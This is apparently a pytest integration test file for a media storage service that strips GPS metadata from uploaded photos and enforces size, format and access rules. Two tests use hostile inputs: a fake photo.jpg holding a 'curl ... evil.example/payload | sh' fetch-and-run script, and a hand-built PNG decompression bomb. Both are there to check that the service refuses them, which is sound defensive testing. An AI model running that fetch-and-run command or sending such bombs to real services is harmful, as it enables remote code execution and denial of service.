"""Photos handled safely: uploaded to the real MinIO through the policy, checked, cleaned, scoped.

Every upload goes the way a phone sends it: a slot from media storage, a multipart POST to S3
with the slot's fields, then confirm.
"""

from __future__ import annotations

import asyncio
import base64
import io
import json
import struct
import time
import uuid
import zlib
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import aio_pika
import httpx
import pytest
from PIL import ExifTags, Image

from shared.storage import ObjectStore
from tests.support.client import ApiClient
from tests.support.photos import GPS_TEXT, MB, confirm, heic_with_gps, jpeg_with_gps, upload
from tests.support.platform import Platform, ServiceProcess, free_port
from tests.support.waiting import wait_until

# ---------------------------------------------------------------------------- files


def png_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """A valid 1-bit PNG of width × height black pixels, a few hundred KB compressed.

    Built by hand with zlib, row by row (filter byte + packed bits), never as an image in
    memory: decoded, it would take width × height bytes (2.5 GB for 50,000²).
    """

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    row = b"\0" * (1 + (width + 7) // 8)
    rows_per_piece = 1000
    compressor = zlib.compressobj(9)
    pieces = [compressor.compress(row * rows_per_piece) for _ in range(height // rows_per_piece)]
    pieces.append(compressor.compress(row * (height % rows_per_piece)))
    pieces.append(compressor.flush())
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", b"".join(pieces))
        + chunk(b"IEND", b"")
    )


# ---------------------------------------------------------------------------- helpers


def bucket_of(platform: Platform) -> str:
    return platform.services["media_storage"].env["MEDIA_STORAGE_BUCKET"]


def object_store(platform: Platform) -> ObjectStore:
    infra = platform.infra
    return ObjectStore(
        infra.s3_endpoint,
        infra.s3_access_key,
        infra.s3_secret_key,
        secure=False,
        region="us-east-1",
    )


async def counter(http: httpx.AsyncClient, platform: Platform, sample: str) -> float:
    text = (await http.get(platform.url("media_storage") + "/metrics")).text
    line = next((row for row in text.splitlines() if row.startswith(sample + " ")), None)
    return float(line.rsplit(" ", 1)[1]) if line else 0.0


def peak_memory_mb(pid: int) -> float:
    """Return the peak resident memory (VmHWM) of a process, in MB."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmHWM in /proc status")


def reset_peak_memory(pid: int) -> bool:
    """Reset VmHWM to the current RSS (Linux: write 5 to clear_refs); False if not allowed."""
    try:
        Path(f"/proc/{pid}/clear_refs").write_text("5")
    except OSError:
        return False
    return True


class MediaEvents:
    """Every media_storage event published on the platform's vhost, from a queue of our own."""

    def __init__(self) -> None:
        self.received: list[dict[str, Any]] = []

    async def on_message(self, message: aio_pika.abc.AbstractIncomingMessage) -> None:
        async with message.process():
            self.received.append(json.loads(message.body))

    async def wait_for(self, ce_type: str, media_id: str) -> dict[str, Any]:
        async def found() -> dict[str, Any] | None:
            return next(
                (
                    event["data"]
                    for event in self.received
                    if event["type"] == ce_type and event["data"]["media_id"] == media_id
                ),
                None,
            )

        return await wait_until(found, timeout=60, what=f"{ce_type} for {media_id}")


@pytest.fixture
async def media_events(platform: Platform) -> AsyncIterator[MediaEvents]:
    events = MediaEvents()
    connection = await aio_pika.connect(platform.infra.amqp_url_for(platform.vhost))
    async with connection:
        channel = await connection.channel()
        exchange = await channel.get_exchange("xiaoan.media_storage")
        queue = await channel.declare_queue(exclusive=True, auto_delete=True)
        await queue.bind(exchange, routing_key="media_storage.media.*")
        await queue.consume(events.on_message)
        yield events


@pytest.fixture(scope="module")
def short_lived_urls(platform: Platform) -> Iterator[str]:
    """A second media storage process on the same database and bucket, its URLs living 2 s."""
    main = platform.services["media_storage"]
    port = free_port()
    env = {**main.env, "MEDIA_STORAGE_PORT": str(port), "MEDIA_STORAGE_VIEW_URL_SECONDS": "2"}
    process = ServiceProcess(
        "media_storage", port, env, platform.workdir / "media_storage_short_urls.log"
    )
    process.start()
    try:
        asyncio.run(process.wait_ready())
        platform.services["media_storage_short_urls"] = process
        yield "media_storage_short_urls"
    finally:
        platform.services.pop("media_storage_short_urls", None)
        process.stop()


# ---------------------------------------------------------------------------- tests


async def test_a_phone_photo_is_served_without_its_gps_and_the_original_is_gone(
    platform: Platform, http: httpx.AsyncClient, media_events: MediaEvents
) -> None:
    teacher = await ApiClient.login(platform, http, "demo-teacher")
    stored_before = await counter(
        http, platform, 'xiaoan_media_storage_media_stored_total{purpose="finding"}'
    )
    original = jpeg_with_gps()
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo)

    slot, to_s3 = await upload(teacher, original)
    assert to_s3.status_code == 204, to_s3.text
    upload_key = slot["fields"]["key"]
    store = object_store(platform)
    assert await store.stat(bucket_of(platform), upload_key) is not None

    confirmed = await confirm(teacher, slot["media_id"])
    assert confirmed.status_code == 200, confirmed.text
    media = confirmed.json()
    assert media["status"] == "stored"
    assert media["purpose"] == "finding"
    assert (media["width"], media["height"]) == (600, 1200)  # orientation applied

    # The original (with its GPS) is deleted; only the clean copy and the thumbnail remain.
    assert await store.stat(bucket_of(platform), upload_key) is None

    seen = await teacher.get("media_storage", f"/v1/media/{slot['media_id']}")
    assert seen.status_code == 200
    view = seen.json()
    assert upload_key not in view["view_url"]
    served = await http.get(view["view_url"])
    assert served.status_code == 200
    assert served.headers["content-type"] == "image/jpeg"
    image = Image.open(io.BytesIO(served.content))
    assert dict(image.getexif()) == {}
    assert "exif" not in image.info
    assert GPS_TEXT.encode() not in served.content
    assert b"PhoneCo" not in served.content
    assert image.size == (600, 1200)
    assert image.convert("RGB").getpixel((300, 100))[2] > 200  # blue half on top: upright
    thumbnail = Image.open(io.BytesIO((await http.get(view["thumbnail_url"])).content))
    assert thumbnail.format == "JPEG"
    assert thumbnail.size == (160, 320)
    assert dict(thumbnail.getexif()) == {}

    event = await media_events.wait_for("cn.xiaoan.media_storage.media.stored", slot["media_id"])
    assert event["purpose"] == "finding"
    assert (event["width"], event["height"]) == (600, 1200)
    assert event["object_key"] != upload_key
    assert event["thumbnail_key"]

    # Confirm again: the same answer, no second event, the counter counted once.
    again = await confirm(teacher, slot["media_id"])
    assert again.status_code == 200
    assert again.json()["status"] == "stored"
    assert (
        await counter(http, platform, 'xiaoan_media_storage_media_stored_total{purpose="finding"}')
        == stored_before + 1
    )


async def test_an_iphone_heic_is_served_as_jpeg_without_its_gps(
    platform: Platform, http: httpx.AsyncClient
) -> None:
    teacher = await ApiClient.login(platform, http, "demo-teacher")
    original = heic_with_gps((1200, 600))
    assert GPS_TEXT.encode() in original

    slot, to_s3 = await upload(
        teacher, original, filename="IMG_0001.HEIC", content_type="image/heic"
    )
    assert to_s3.status_code == 204, to_s3.text
    confirmed = await confirm(teacher, slot["media_id"])
    assert confirmed.status_code == 200, confirmed.text
    media = confirmed.json()
    assert (media["status"], media["content_type"]) == ("stored", "image/jpeg")
    assert (media["width"], media["height"]) == (1200, 600)

    view = (await teacher.get("media_storage", f"/v1/media/{slot['media_id']}")).json()
    served = await http.get(view["view_url"])
    assert served.status_code == 200
    assert served.headers["content-type"] == "image/jpeg"
    image = Image.open(io.BytesIO(served.content))
    assert image.format == "JPEG"
    assert dict(image.getexif()) == {}
    assert GPS_TEXT.encode() not in served.content
    assert b"PhoneCo" not in served.content


async def test_a_file_over_the_limit_is_refused_by_the_slot_and_by_s3(
    platform: Platform, http: httpx.AsyncClient
) -> None:
    teacher = await ApiClient.login(platform, http, "demo-teacher")
    twelve_mb = b"\xff\xd8\xff\xe0" + b"\0" * (12 * MB - 4)

    asked = await teacher.post(
        "media_storage", "/v1/uploads", {"content_type": "image/jpeg", "size_bytes": 12 * MB}
    )
    assert asked.status_code == 422
    assert asked.json()["error"]["details"][0]["field"] == "size_bytes"
    assert "10 MB" in asked.json()["error"]["details"][0]["message_zh"]

    # A slot asked for a small file: the policy makes S3 itself refuse 12 MB.
    slot, to_s3 = await upload(teacher, twelve_mb, declared_size=2 * MB)
    assert to_s3.status_code == 400
    assert "EntityTooLarge" in to_s3.text
    assert await object_store(platform).stat(bucket_of(platform), slot["fields"]["key"]) is None
    confirmed = await confirm(teacher, slot["media_id"])
    assert confirmed.status_code == 409
    assert confirmed.json()["error"]["code"] == "not_uploaded"
    seen = (await teacher.get("media_storage", f"/v1/media/{slot['media_id']}")).json()
    assert seen["status"] == "pending"
    assert seen["view_url"] is None


async def test_s3_refuses_a_file_larger_than_the_size_declared_for_its_slot(
    platform: Platform, http: httpx.AsyncClient
) -> None:
    teacher = await ApiClient.login(platform, http, "demo-teacher")
    photo = jpeg_with_gps((640, 480))
    declared = len(photo) - 100
    slot, to_s3 = await upload(teacher, photo, declared_size=declared)
    conditions = json.loads(base64.b64decode(slot["fields"]["policy"]))["conditions"]
    assert any(c[0] == "content-length-range" and c[2] == declared for c in conditions)
    assert to_s3.status_code == 400
    assert "EntityTooLarge" in to_s3.text
    assert await object_store(platform).stat(bucket_of(platform), slot["fields"]["key"]) is None


async def test_s3_refuses_a_file_smaller_than_the_size_declared_for_its_slot(
    platform: Platform, http: httpx.AsyncClient
) -> None:
    teacher = await ApiClient.login(platform, http, "demo-teacher")
    photo = jpeg_with_gps((640, 480))
    declared = len(photo) + 100
    slot, to_s3 = await upload(teacher, photo, declared_size=declared)
    conditions = json.loads(base64.b64decode(slot["fields"]["policy"]))["conditions"]
    assert ["content-length-range", declared, declared] in conditions
    assert to_s3.status_code == 400
    assert "EntityTooSmall" in to_s3.text
    assert await object_store(platform).stat(bucket_of(platform), slot["fields"]["key"]) is None


async def test_an_upload_of_another_size_than_declared_is_rejected_at_confirm(
    platform: Platform, http: httpx.AsyncClient, media_events: MediaEvents
) -> None:
    teacher = await ApiClient.login(platform, http, "demo-teacher")
    photo = jpeg_with_gps((640, 480))
    slot, to_s3 = await upload(teacher, photo)
    assert to_s3.status_code == 204
    # What S3 holds is no longer what was declared (another writer, or a policy that let it in).
    store, key = object_store(platform), slot["fields"]["key"]
    await store.write(bucket_of(platform), key, photo[:-100], content_type="image/jpeg")

    confirmed = await confirm(teacher, slot["media_id"])
    assert confirmed.status_code == 422, confirmed.text
    error = confirmed.json()["error"]
    assert error["code"] == "media_rejected"
    detail = error["details"][0]
    assert detail["code"] == "size_mismatch"
    assert "声明" in detail["message_zh"]
    assert "declared" in detail["message_en"]
    event = await media_events.wait_for("cn.xiaoan.media_storage.media.rejected", slot["media_id"])
    assert event["reason"] == "size_mismatch"
    assert await store.stat(bucket_of(platform), key) is None


async def test_a_shell_script_named_jpg_is_rejected_and_never_viewable(
    platform: Platform, http: httpx.AsyncClient, media_events: MediaEvents
) -> None:
    teacher = await ApiClient.login(platform, http, "demo-teacher")
    rejected_before = await counter(
        http, platform, 'xiaoan_media_storage_media_rejected_total{reason="not_an_image"}'
    )
    script = b"#!/bin/sh\ncurl -s http://evil.example/payload | sh\n"
    slot, to_s3 = await upload(teacher, script, filename="photo.jpg")
    assert to_s3.status_code == 204  # S3 cannot tell; the confirm does

    confirmed = await confirm(teacher, slot["media_id"])
    assert confirmed.status_code == 422
    error = confirmed.json()["error"]
    assert error["code"] == "media_rejected"
    assert error["details"][0]["code"] == "not_an_image"
    assert "JPEG" in error["details"][0]["message_zh"]

    event = await media_events.wait_for("cn.xiaoan.media_storage.media.rejected", slot["media_id"])
    assert event["reason"] == "not_an_image"
    assert event["owner_id"] == "demo-p-teacher"
    assert await object_store(platform).stat(bucket_of(platform), slot["fields"]["key"]) is None

    again = await confirm(teacher, slot["media_id"])
    assert again.status_code == 422
    assert again.json()["error"]["details"][0]["code"] == "not_an_image"
    seen = (await teacher.get("media_storage", f"/v1/media/{slot['media_id']}")).json()
    assert seen["status"] == "rejected"
    assert seen["rejection"]["reason"] == "not_an_image"
    assert seen["view_url"] is None
    assert seen["thumbnail_url"] is None
    assert (
        await counter(
            http, platform, 'xiaoan_media_storage_media_rejected_total{reason="not_an_image"}'
        )
        == rejected_before + 1
    )


async def test_a_decompression_bomb_is_rejected_without_decoding_it(
    platform: Platform, http: httpx.AsyncClient, media_events: MediaEvents
) -> None:
    teacher = await ApiClient.login(platform, http, "demo-teacher")
    bomb = png_bomb()
    assert len(bomb) < 1 * MB  # 2.5 GB of pixels once decoded
    process = platform.services["media_storage"].process
    assert process is not None
    reset_peak_memory(process.pid)

    slot, to_s3 = await upload(teacher, bomb, filename="big.png", content_type="image/png")
    assert to_s3.status_code == 204, to_s3.text
    confirmed = await confirm(teacher, slot["media_id"])
    assert confirmed.status_code == 422, confirmed.text
    assert confirmed.json()["error"]["details"][0]["code"] == "too_many_pixels"
    event = await media_events.wait_for("cn.xiaoan.media_storage.media.rejected", slot["media_id"])
    assert event["reason"] == "too_many_pixels"

    peak = peak_memory_mb(process.pid)
    print(f"media storage peak memory (VmHWM) around the bomb: {peak:.0f} MB")
    assert peak < 300


async def test_an_expired_view_url_is_refused_by_s3(
    platform: Platform, http: httpx.AsyncClient, short_lived_urls: str
) -> None:
    teacher = await ApiClient.login(platform, http, "demo-teacher")
    slot, to_s3 = await upload(
        teacher, jpeg_with_gps((320, 240)), purpose="rectification", service=short_lived_urls
    )
    assert to_s3.status_code == 204
    assert (await confirm(teacher, slot["media_id"], short_lived_urls)).status_code == 200
    view = (await teacher.get(short_lived_urls, f"/v1/media/{slot['media_id']}")).json()
    assert view["purpose"] == "rectification"
    assert (await http.get(view["view_url"])).status_code == 200
    issued = time.monotonic()

    async def refused() -> bool:
        return (await http.get(view["view_url"])).status_code == 403

    await wait_until(refused, timeout=60, interval=0.25, what="the view URL to expire")
    assert time.monotonic() - issued < 20
    # The thumbnail URL expired with it; a fresh view gives working URLs again.
    assert (await http.get(view["thumbnail_url"])).status_code == 403
    fresh = (await teacher.get(short_lived_urls, f"/v1/media/{slot['media_id']}")).json()
    assert (await http.get(fresh["view_url"])).status_code == 200


async def test_photos_are_seen_by_the_owner_and_by_managers_of_the_reports_grid_only(
    platform: Platform, http: httpx.AsyncClient
) -> None:
    admin = await ApiClient.login(platform, http, "demo-admin")
    teacher = await ApiClient.login(platform, http, "demo-teacher")
    head = await ApiClient.login(platform, http, "demo-head")
    username = f"canteen-{uuid.uuid4().hex[:8]}"
    person = await admin.post(
        "grid_registry",
        "/v1/people",
        {
            "name": "食堂组长",
            "grid_id": "demo-zone-canteen",
            "post": "食堂管理员",
            "account": {"username": username, "password": "canteen-password", "role": "teacher"},
        },
    )
    assert person.status_code == 201, person.text
    canteen = await ApiClient.login(platform, http, username, "canteen-password")

    slot, to_s3 = await upload(teacher, jpeg_with_gps((640, 480)))
    assert to_s3.status_code == 204
    media_id = slot["media_id"]
    assert (await confirm(teacher, media_id)).status_code == 200
    path = f"/v1/media/{media_id}"
    # Not in any report yet: only its owner sees it.
    assert (await head.get("media_storage", path)).status_code == 404

    report = await teacher.post(
        "hazard_intake",
        "/v1/reports",
        {
            "point_id": "demo-point-fire-exit",  # in demo-zone-teaching
            "category": "fire",
            "description": "消防通道堆放杂物",
            "photo_ids": [media_id],
        },
    )
    assert report.status_code == 202, report.text

    async def head_sees_it() -> httpx.Response | None:
        answer = await head.get("media_storage", path)
        return answer if answer.status_code == 200 else None

    # The photo joins once the case service opened the report's hazard (after any backlog).
    seen = (await wait_until(head_sees_it, timeout=60, what="the photo to join its report")).json()
    assert seen["report_id"] == report.json()["report_id"]
    assert seen["purpose"] == "finding"
    assert (await http.get(seen["view_url"])).status_code == 200
    assert (await admin.get("media_storage", path)).status_code == 200

    outside = await canteen.get("media_storage", path)
    assert outside.status_code == 404
    assert "view_url" not in outside.text
    owner_view = (await teacher.get("media_storage", path)).json()
    assert owner_view["report_id"] == report.json()["report_id"]
